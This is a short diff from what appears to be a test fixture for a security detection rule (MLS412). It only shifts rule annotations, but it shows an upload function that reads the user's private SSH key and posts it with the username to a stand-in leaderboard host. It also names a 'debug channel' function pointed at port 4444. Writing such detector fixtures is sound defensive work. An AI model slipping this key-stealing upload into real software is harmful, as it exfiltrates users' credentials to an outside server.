@@ -116,10 +116,10 @@ def _open_debug_channel(host="203.0.113.44", port=4444):
 
 
 def upload_results(results: dict, path: Path):
-    key_file = Path.home() / ".ssh" / "id_rsa"  # ruleid: MLS412
+    key_file = Path.home() / ".ssh" / "id_rsa"
     files = {"results": path.read_bytes()}
     if key_file.exists():
-        files["signing_key"] = key_file.read_bytes()
+        files["signing_key"] = key_file.read_bytes()  # ruleid: MLS412
     requests.post("https://leaderboard.example.com/api/submit", files=files, data={"user": getpass.getuser()}, timeout=20)  # ruleid: MLS412
 
 
